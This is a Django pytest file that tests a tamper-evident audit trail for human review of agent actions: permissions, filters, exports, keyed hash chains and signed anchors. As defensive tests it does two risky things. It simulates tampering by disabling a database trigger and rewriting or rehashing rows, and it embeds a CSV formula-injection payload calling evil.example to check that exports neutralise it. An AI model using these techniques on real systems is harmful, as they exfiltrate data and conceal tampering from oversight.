"""The audit trail: who may see it, filters, streamed exports, and proof that
nothing was changed after the fact."""

from __future__ import annotations

import contextlib
import csv
import io
import json
from datetime import timedelta

import pytest
from django.contrib.auth import get_user_model
from django.core.exceptions import ImproperlyConfigured
from django.core.management import CommandError, call_command
from django.db import connection, connections
from django.db.migrations.executor import MigrationExecutor
from django.http import StreamingHttpResponse
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from reviews.audit_chain import HASHED, UNKEYED, audit_key, check_audit_key, key_id, row_hash
from reviews.models import AuditEvent, AuditImmutable
from tests.reviews.conftest import pending, start
from tests.reviews.rows import stopped

TRIGGER = "reviews_auditevent_immutable"
REFUND = {"messages": [{"role": "user", "content": "Please refund order A-1001, $120"}]}


@pytest.fixture
def as_admin(transactional_db) -> Client:
    admin = get_user_model().objects.create_superuser("boss", password="pw-boss-123")
    client = Client()
    client.force_login(admin)
    return client


def trail(rita, sam) -> list[AuditEvent]:
    return [
        AuditEvent.record("run.started", actor=rita, thread_id="t-1", graph_name="support"),
        AuditEvent.record(
            "task.decided",
            actor=sam,
            thread_id="t-1",
            graph_name="support",
            before={"tool": "refund", "args": {"amount": 120}},
            after={"type": "edit", "args": {"amount": 99}},
            client_address="10.0.0.7",
        ),
        AuditEvent.record("interrupt.raised", thread_id="t-2", graph_name="drafting"),
    ]


@contextlib.contextmanager
def past_the_trigger():
    """A raw cursor with the PostgreSQL trigger off, as the table's owner
    (the app's own database role) can do; the trigger is back on after."""
    with connection.cursor() as cursor:
        if connection.vendor == "postgresql":
            cursor.execute(f"ALTER TABLE reviews_auditevent DISABLE TRIGGER {TRIGGER}")
        try:
            yield cursor
        finally:
            if connection.vendor == "postgresql":
                cursor.execute(f"ALTER TABLE reviews_auditevent ENABLE TRIGGER {TRIGGER}")


def rechain_unkeyed(from_id: int, *, version: int | None = None) -> None:
    """Recompute every hash from `from_id` on with the plain SHA-256, as
    someone without the key would to hide a change (`version`: also claim
    the rows were written before the chain was keyed)."""
    rows = AuditEvent.objects.order_by("id").values("id", "prev_hash", "hash", *HASHED)
    prev = "0" * 64
    with past_the_trigger() as cursor:
        for row in rows:
            if row["id"] >= from_id:
                digest = row_hash(row, prev)
                cursor.execute(
                    "UPDATE reviews_auditevent SET prev_hash = %s, hash = %s,"
                    " hash_version = COALESCE(%s, hash_version) WHERE id = %s",
                    [prev, digest, version, row["id"]],
                )
                prev = digest
            else:
                prev = row["hash"]


def verify(*anchors) -> str:
    out = io.StringIO()
    call_command("verify_audit", *[f"--anchor={a}" for a in anchors], stdout=out)
    return out.getvalue()


def test_reviewers_without_the_permission_are_refused(as_rita, client):
    assert as_rita.get(reverse("audit")).status_code == 403
    assert as_rita.get(reverse("audit_csv")).status_code == 403
    assert client.get(reverse("audit")).status_code == 302  # anonymous: sign in first


def test_filters_and_links(as_admin, rita, sam):
    first, decided, system = trail(rita, sam)
    get = lambda **q: as_admin.get(reverse("audit"), q).content.decode()  # noqa: E731
    html = get()
    assert all(f'id="audit-{e.pk}"' in html for e in (first, decided, system))
    assert html.index(f'id="audit-{system.pk}"') < html.index(f'id="audit-{first.pk}"')
    assert f'id="audit-{decided.pk}"' in get(actor="sam") and f'id="audit-{first.pk}"' not in get(
        actor="sam"
    )
    assert f'id="audit-{system.pk}"' in get(actor="system")
    assert f'id="audit-{first.pk}"' not in get(graph="drafting")
    assert f'id="audit-{system.pk}"' not in get(thread="t-1")
    assert f'id="audit-{decided.pk}"' in get(action="task.decided")
    # The search reads the thread, the actor and the before and after values, nothing else.
    shown = lambda html: {e.pk for e in (first, decided, system) if f'id="audit-{e.pk}"' in html}  # noqa: E731
    assert shown(get(q="T-2")) == {system.pk}  # thread, any case
    assert shown(get(q="sa")) == {decided.pk}  # actor
    assert shown(get(q="refund")) == {decided.pk}  # before
    assert shown(get(q="99")) == {decided.pk}  # after
    assert shown(get(q="10.0.0.7")) == set()  # the client's address is not searched
    assert shown(get(q="drafting")) == shown(get(q="interrupt")) == set()  # nor graph, action
    today = timezone.localdate()
    assert f'id="audit-{first.pk}"' in get(since=str(today), until=str(today))
    assert f'id="audit-{first.pk}"' not in get(since=str(today + timedelta(days=1)))
    bad = as_admin.get(reverse("audit"), {"since": "yesterday"})
    assert bad.status_code == 422 and "is not a date" in bad.content.decode()
    assert reverse("thread", args=["t-1"]) in html


def test_exports_stream_the_filtered_view(as_admin, rita, sam):
    _, decided, system = trail(rita, sam)
    response = as_admin.get(reverse("audit_csv"), {"graph": "support"})
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Disposition"].startswith('attachment; filename="audit-')
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    *rows, last = rows
    assert [r["action"] for r in rows] == ["run.started", "task.decided"]
    assert json.loads(rows[1]["after"]) == {"args": {"amount": 99}, "type": "edit"}
    assert rows[1]["hash"] == decided.hash
    # The last row is the whole trail's head, whatever the filter, signed.
    anchor = json.loads(last["created_at"])
    assert last["id"] == "anchor" and anchor["type"] == "hitl-audit-anchor"
    assert (anchor["last_id"], anchor["hash"], anchor["count"]) == (system.pk, system.hash, 3)
    assert anchor["key"] == key_id(audit_key()) and len(anchor["signature"]) == 64

    response = as_admin.get(reverse("audit_jsonl"), {"actor": "sam"})
    *lines, last = b"".join(response.streaming_content).decode().splitlines()
    assert [json.loads(line)["id"] for line in lines] == [decided.pk]
    assert json.loads(lines[0])["before"] == {"tool": "refund", "args": {"amount": 120}}
    head = {k: v for k, v in anchor.items() if k not in ("at", "signature")}
    assert head.items() <= json.loads(last).items()
    assert as_admin.get(reverse("audit_csv"), {"until": "nope"}).status_code == 400


def test_a_csv_export_never_holds_a_formula(as_admin):
    # A thread id is whatever an agent's client chose.
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    AuditEvent.record("run.started", thread_id=formula, graph_name="support")
    response = as_admin.get(reverse("audit_csv"))
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0]["thread_id"] == "'" + formula
    assert rows[0]["graph_name"] == "support"


def test_an_export_holds_the_rows_up_to_its_anchor_and_proves_them(as_admin, rita, sam, tmp_path):
    trail(rita, sam)
    saved = {}
    for fmt in ("csv", "jsonl"):
        response = as_admin.get(reverse(f"audit_{fmt}"))
        saved[fmt] = tmp_path / f"audit.{fmt}"
        saved[fmt].write_bytes(b"".join(response.streaming_content))
    out = verify(saved["csv"], saved["jsonl"])
    assert "verifies: 3 event(s)" in out and out.count("was removed or changed since") == 2
    AuditEvent.record("interrupt.raised", thread_id="t-3")
    assert "verifies: 4 event(s)" in verify(saved["csv"])  # rows after the head are fine

    with past_the_trigger() as cursor:  # the newest rows go, links intact
        cursor.execute("DELETE FROM reviews_auditevent WHERE action <> 'run.started'")
    assert "verifies: 1 event(s)" in verify()  # the chain alone can't tell
    for path in saved.values():
        with pytest.raises(CommandError, match="the anchor's head, is missing: the trail was"):
            verify(path)


def test_the_orm_refuses_changes(rita, sam):
    event = trail(rita, sam)[0]
    event.action = "something.else"
    with pytest.raises(AuditImmutable):
        event.save()
    with pytest.raises(AuditImmutable):
        event.delete()
    with pytest.raises(AuditImmutable):
        AuditEvent.objects.filter(pk=event.pk).update(action="x")
    with pytest.raises(AuditImmutable):
        AuditEvent.objects.all().delete()
    assert AuditEvent.objects.get(pk=event.pk).action == "run.started"


def test_verify_audit_names_the_first_tampered_row(rita, sam):
    start("support", REFUND)  # the worker's stop adds to the chain too
    trail(rita, sam)
    assert "verifies: 4 event(s)" in verify()
    decided = AuditEvent.objects.get(action="task.decided")
    with past_the_trigger() as cursor:  # past the ORM (and the trigger), as an intruder would
        cursor.execute(
            "UPDATE reviews_auditevent SET after = %s WHERE id = %s",
            ['{"type": "approve"}', decided.pk],
        )
    with pytest.raises(
        CommandError, match=f"audit event {decided.pk} does not verify: its content"
    ):
        verify()
    with past_the_trigger() as cursor:
        cursor.execute("DELETE FROM reviews_auditevent WHERE id = %s", [decided.pk])
    with pytest.raises(CommandError, match="link to the previous row is broken"):
        verify()


def test_rewriting_a_row_and_rehashing_the_rest_without_the_key_does_not_verify(rita, sam):
    first, decided, system = trail(rita, sam)
    with past_the_trigger() as cursor:
        cursor.execute(
            "UPDATE reviews_auditevent SET after = %s WHERE id = %s",
            ['{"type": "approve"}', decided.pk],
        )
    rechain_unkeyed(decided.pk)  # links all match again, but not the keyed hashes
    with pytest.raises(
        CommandError,
        match=f"audit event {decided.pk} does not verify: its content does not "
        "match its keyed hash",
    ):
        verify()
    # Claiming the rewritten rows predate the key: unkeyed rows never follow keyed ones.
    rechain_unkeyed(decided.pk, version=UNKEYED)
    with pytest.raises(
        CommandError, match=f"audit event {decided.pk} does not verify: it has an unkeyed hash"
    ):
        verify()
    # Nor is a trail of unkeyed rows alone taken for one from before the key.
    rechain_unkeyed(first.pk, version=UNKEYED)
    with pytest.raises(
        CommandError, match=f"audit event {system.pk} does not verify: the trail has no keyed row"
    ):
        verify()


def test_an_anchor_shows_the_newest_rows_removed_or_the_trail_truncated(rita, sam, tmp_path):
    trail(rita, sam)
    path = tmp_path / "anchor.json"
    out = io.StringIO()
    call_command("audit_anchor", f"--output={path}", stdout=out)
    anchor = json.loads(path.read_text())
    assert json.loads(out.getvalue()) == anchor and anchor["count"] == 3
    assert "No event up to" in verify(path)

    newest = AuditEvent.objects.order_by("-id").first()
    with past_the_trigger() as cursor:
        cursor.execute("DELETE FROM reviews_auditevent WHERE id = %s", [newest.pk])
    assert "verifies: 2 event(s)" in verify()
    with pytest.raises(CommandError, match=rf"event {newest.pk}, the anchor's head, is missing"):
        verify(path)

    with connection.cursor() as cursor:
        # TRUNCATE fires no row trigger on PostgreSQL; SQLite has DELETE.
        table = "reviews_auditevent"
        cursor.execute(
            f"TRUNCATE {table}" if connection.vendor == "postgresql" else f"DELETE FROM {table}"
        )
    AuditEvent.record("run.started", actor=rita, thread_id="t-1")  # a fresh chain begins
    assert "verifies: 1 event(s)" in verify()
    with pytest.raises(CommandError, match="is missing: the trail was truncated or cut back"):
        verify(path)


def test_anchors_are_signed_with_the_key(rita, sam, tmp_path, settings):
    trail(rita, sam)
    path = tmp_path / "anchor.json"
    call_command("audit_anchor", f"--output={path}", stdout=io.StringIO())
    anchor = json.loads(path.read_text())
    path.write_text(json.dumps(anchor | {"count": 2}))
    with pytest.raises(CommandError, match=r"signature does not verify \(it was edited"):
        verify(path)
    path.write_text(json.dumps(anchor))
    settings.AUDIT_KEY = "another-key-of-at-least-32-characters"
    with pytest.raises(CommandError, match=f"names key {anchor['key']}, AUDIT_KEY here is"):
        verify(path)
    with pytest.raises(CommandError, match="or AUDIT_KEY is not the key it was written with"):
        verify()
    settings.AUDIT_KEY = "short"
    with pytest.raises(ImproperlyConfigured, match="AUDIT_KEY must be at least 32 characters"):
        audit_key()
    assert [e.id for e in check_audit_key(None)] == ["reviews.E001"]


def test_audit_anchor_refuses_a_broken_chain(rita, sam):
    _, decided, _ = trail(rita, sam)
    with past_the_trigger() as cursor:
        cursor.execute("DELETE FROM reviews_auditevent WHERE id = %s", [decided.pk])
    with pytest.raises(CommandError, match="not anchoring: audit event"):
        call_command("audit_anchor", stdout=io.StringIO())


def test_rows_hashed_before_the_key_still_verify(rita, transactional_db):
    """Migrating keys the chain: rows already there keep their plain hashes,
    and one keyed row after them seals them in."""
    executor = MigrationExecutor(connection)
    before_key = [("reviews", "0011_queue_indexes")]
    executor.migrate(before_key)
    Old = executor.loader.project_state(before_key).apps.get_model("reviews", "AuditEvent")
    prev = "0" * 64
    for n in range(3):
        row = Old(created_at=timezone.now(), action="task.decided", after={"n": n}, prev_hash=prev)
        row.hash = prev = row_hash(row.__dict__, prev)
        row.save()
    executor.loader.build_graph()
    executor.migrate(executor.loader.graph.leaf_nodes("reviews"))

    AuditEvent.record("run.started", actor=rita, thread_id="t-1")
    rows = list(AuditEvent.objects.order_by("id").values_list("action", "hash_version"))
    assert rows == [("task.decided", 1)] * 3 + [("audit.keyed", 2), ("run.started", 2)]
    assert "verifies: 5 event(s)" in verify()
    first = AuditEvent.objects.order_by("id").first()
    with past_the_trigger() as cursor:
        cursor.execute(
            "UPDATE reviews_auditevent SET after = %s WHERE id = %s", ['{"n": 9}', first.pk]
        )
    with pytest.raises(CommandError, match=f"audit event {first.pk} does not verify: its content"):
        verify()


@pytest.mark.postgres
def test_postgresql_trigger_refuses_update_and_delete(pg_alias, django_db_blocker):
    from django.db import DatabaseError, transaction

    from tests.conftest import _allow_queries

    with django_db_blocker.unblock(), _allow_queries(pg_alias):
        event = AuditEvent(action="run.started", thread_id="t-9", prev_hash="0" * 64, hash="x")
        event.save(using=pg_alias)
        for sql in (
            "UPDATE reviews_auditevent SET action = 'x' WHERE id = %s",
            "DELETE FROM reviews_auditevent WHERE id = %s",
        ):
            with (
                pytest.raises(DatabaseError, match="audit events are only ever added"),
                transaction.atomic(using=pg_alias),
                connections[pg_alias].cursor() as cursor,
            ):
                cursor.execute(sql, [event.pk])
        assert AuditEvent.objects.using(pg_alias).get(pk=event.pk).action == "run.started"
        with connections[pg_alias].cursor() as cursor:
            cursor.execute("TRUNCATE reviews_auditevent")


def test_decisions_are_in_the_trail_with_their_page(as_rita):
    thread = stopped("support", REFUND)
    (task,) = pending(thread)
    as_rita.post(reverse("decide", args=[task.pk]), {f"t{task.pk}-type": "accept"})
    actions = list(AuditEvent.objects.order_by("id").values_list("action", "actor_name"))
    assert actions == [("interrupt.raised", ""), ("task.decided", "rita")]
